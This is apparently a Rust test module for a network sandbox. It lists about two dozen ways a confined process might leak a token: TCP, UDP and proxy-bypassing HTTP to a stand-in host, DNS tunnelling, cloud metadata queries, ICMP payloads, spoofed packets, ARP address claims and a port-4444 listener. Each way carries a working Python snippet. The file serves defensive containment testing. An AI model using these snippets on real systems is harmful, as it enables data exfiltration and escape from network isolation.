//! Bytes to somebody else, by every way that a network has.

use super::{Mechanism, attack};
use crate::scene::Scene;

pub fn all() -> Vec<Mechanism> {
    vec![
        attack("tcp to the internet", r#"tcp("203.0.113.10", 7777)"#, |s| s.received("internet tcp")),
        attack("udp to the internet", UDP, |s| s.received("internet udp")),
        attack("http past the proxy", HTTP, |s| s.received("internet http")),
        attack("a name lookup as a tunnel", LOOKUP, |s| s.received("resolver")),
        attack("a name lookup over tcp", LOOKUP_TCP, |s| s.received("resolver tcp")),
        attack("ask the metadata service", METADATA, |s| s.received("metadata")),
        attack("a service of the host's", r#"tcp("10.77.0.1", 8080)"#, |s| s.received("host service")),
        attack("a port of a neighbour's", r#"tcp("10.77.0.3", 6379, b"SET " + T)"#, |s| s.received("neighbour")),
        attack("echo requests with a payload", ICMP_RAW, |s| s.received("ip protocol 1")),
        attack("echo requests without privileges", ICMP_PLAIN, |s| s.received("ip protocol 1")),
        attack("packets of a protocol of its own", RAW, |s| s.received("ip protocol 253")),
        attack("packets with another's address", SPOOFED, |s| s.received("source 10.77.0.9")),
        attack("frames of its own", FRAME, |s| s.received("frame")),
        attack("claim a neighbour's address", ARP, claimed).after(|s| {
            s.cage.in_street(&["ip", "neigh", "replace", "10.77.0.9", "lladdr", KNOWN, "dev", "eth0", "nud", "stale"]);
        }),
        attack("multicast", MULTICAST, |s| s.received("multicast")),
        attack("broadcast", BROADCAST, |s| s.received("broadcast")),
        attack("version 6 of the protocol", r#"tcp("fd77::1", 7777, family=socket.AF_INET6)"#, |s| {
            s.received("internet tcp6")
        }),
        attack("all nodes of the link", ALL_NODES, |s| s.received("ip6")),
        attack("an address of version 4 in one of version 6", MAPPED, |s| s.received("internet tcp")),
        attack("data in the first packet", FAST_OPEN, |s| s.received("internet tcp")),
        attack("wait for a caller", LISTEN, called),
        attack("an abstract socket of a neighbour's", r#"unix("\0tf-redteam-agent")"#, |s| {
            s.received("abstract socket")
        }),
        attack("make an interface of its own", TUN, |s| s.proc("net/dev").contains(&s.token[..12])),
        attack("give itself another address", ADDRESS, readdressed),
        attack("change a setting of the kernel's network", SETTING, resettled),
    ]
}

/// The hardware address that the street knows a neighbour by.
const KNOWN: &str = "02:00:00:00:00:09";

fn claimed(scene: &Scene<'_>) -> bool {
    let known = scene.cage.in_street(&["ip", "neigh", "show", "10.77.0.9"]);
    !known.is_empty() && !known.contains(KNOWN)
}

fn called(scene: &Scene<'_>) -> bool {
    let call = "import socket; s = socket.create_connection(('10.77.0.2', 4444), 2); print(s.recv(100).decode())";
    scene.cage.in_street(&["python3", "-c", call]).contains(&scene.token)
}

fn readdressed(scene: &Scene<'_>) -> bool {
    let there = scene.proc("net/fib_trie").contains("10.77.0.9");
    scene.cage.at_home(&["ip", "addr", "del", "10.77.0.9/8", "dev", "eth0"]);
    there
}

fn resettled(scene: &Scene<'_>) -> bool {
    let pid = scene.pid.to_string();
    let path = "/proc/sys/net/ipv4/ip_default_ttl";
    let found = std::process::Command::new("nsenter").args(["-t", &pid, "-n", "cat", path]).output().unwrap();
    scene.cage.at_home(&["sh", "-c", &format!("echo 64 > {path}")]);
    String::from_utf8_lossy(&found.stdout).trim() == "77"
}

const UDP: &str = r#"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(T, ("203.0.113.10", 7777))
"#;
const HTTP: &str = r#"
import urllib.request
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
opener.open(urllib.request.Request("http://203.0.113.10/" + TOKEN, data=T), timeout=2).read()
"#;
const LOOKUP: &str = r#"
labels = b"".join(bytes([len(p)]) + p for p in (T, b"tunnel", b"example"))
query = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 16, 1)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("10.77.0.53", 53))
"#;
const LOOKUP_TCP: &str = r#"
labels = b"".join(bytes([len(p)]) + p for p in (T, b"tunnel", b"example"))
query = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 16, 1)
tcp("10.77.0.53", 53, struct.pack("!H", len(query)) + query)
"#;
const METADATA: &str = r#"
tcp("169.254.169.254", 80, b"GET /latest/meta-data/" + T + b" HTTP/1.1\r\nHost: metadata\r\n\r\n")
"#;
const ICMP_RAW: &str = r#"
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
head = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
head = struct.pack("!BBHHH", 8, 0, checksum(head + T), 1, 1)
s.sendto(head + T, ("203.0.113.10", 0))
"#;
const ICMP_PLAIN: &str = r#"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + T, ("203.0.113.10", 0))
"#;
const RAW: &str = r#"
socket.socket(socket.AF_INET, socket.SOCK_RAW, 253).sendto(T, ("203.0.113.10", 0))
"#;
const SPOOFED: &str = r#"
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
udp = struct.pack("!4H", 7, 7777, 8 + len(T), 0) + T
head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 7, 0, 64, 17, 0, socket.inet_aton("10.77.0.9"), socket.inet_aton("203.0.113.10"))
s.sendto(head + udp, ("203.0.113.10", 0))
"#;
const FRAME: &str = r#"
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0" if os.path.exists("/sys/class/net/eth0") else "lo", 0))
s.send(b"\xff" * 6 + b"\x02\0\0\0\0\x07" + b"\x88\xb5" + T + b"\0" * 46)
"#;
const ARP: &str = r#"
device = "eth0" if os.path.exists("/sys/class/net/eth0") else "lo"
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((device, 0))
mine = bytes.fromhex(open("/sys/class/net/%s/address" % device).read().strip().replace(":", ""))
said = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mine, socket.inet_aton("10.77.0.9"), mine, socket.inet_aton("10.77.0.9"))
s.send(b"\xff" * 6 + mine + b"\x08\x06" + said + b"\0" * 18)
time.sleep(0.1)
"#;
const MULTICAST: &str = r#"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(T, ("224.0.0.251", 5353))
"#;
const BROADCAST: &str = r#"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.sendto(T, ("255.255.255.255", 7778))
"#;
const ALL_NODES: &str = r#"
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.sendto(T, ("ff02::1", 7779, 0, socket.if_nametoindex("eth0")))
"#;
const MAPPED: &str = r#"
tcp("::ffff:203.0.113.10", 7777, family=socket.AF_INET6)
"#;
const FAST_OPEN: &str = r#"
socket.socket(socket.AF_INET, socket.SOCK_STREAM).sendto(T, 0x20000000, ("203.0.113.10", 7777))
time.sleep(0.05)
"#;
const LISTEN: &str = r#"
import threading
listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("0.0.0.0", 4444))
listener.listen(8)
def answer():
    while True:
        caller = listener.accept()[0]
        caller.sendall(T)
        caller.close()
threading.Thread(target=answer, daemon=True).start()
"#;
const TUN: &str = r#"
os.mknod("/workspace/tun", 0o20600, os.makedev(10, 200))
tun = os.open("/workspace/tun", os.O_RDWR)
fcntl.ioctl(tun, 0x400454ca, struct.pack("16sH22x", T[:12], 0x1002))
"#;
const ADDRESS: &str = r#"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
device = "eth0" if os.path.exists("/sys/class/net/eth0") else "lo"
fcntl.ioctl(s, 0x8916, struct.pack("16sHH4s16x", (device + ":7").encode(), socket.AF_INET, 0, socket.inet_aton("10.77.0.9")))
"#;
const SETTING: &str = r#"
open("/proc/sys/net/ipv4/ip_default_ttl", "w").write("77")
"#;
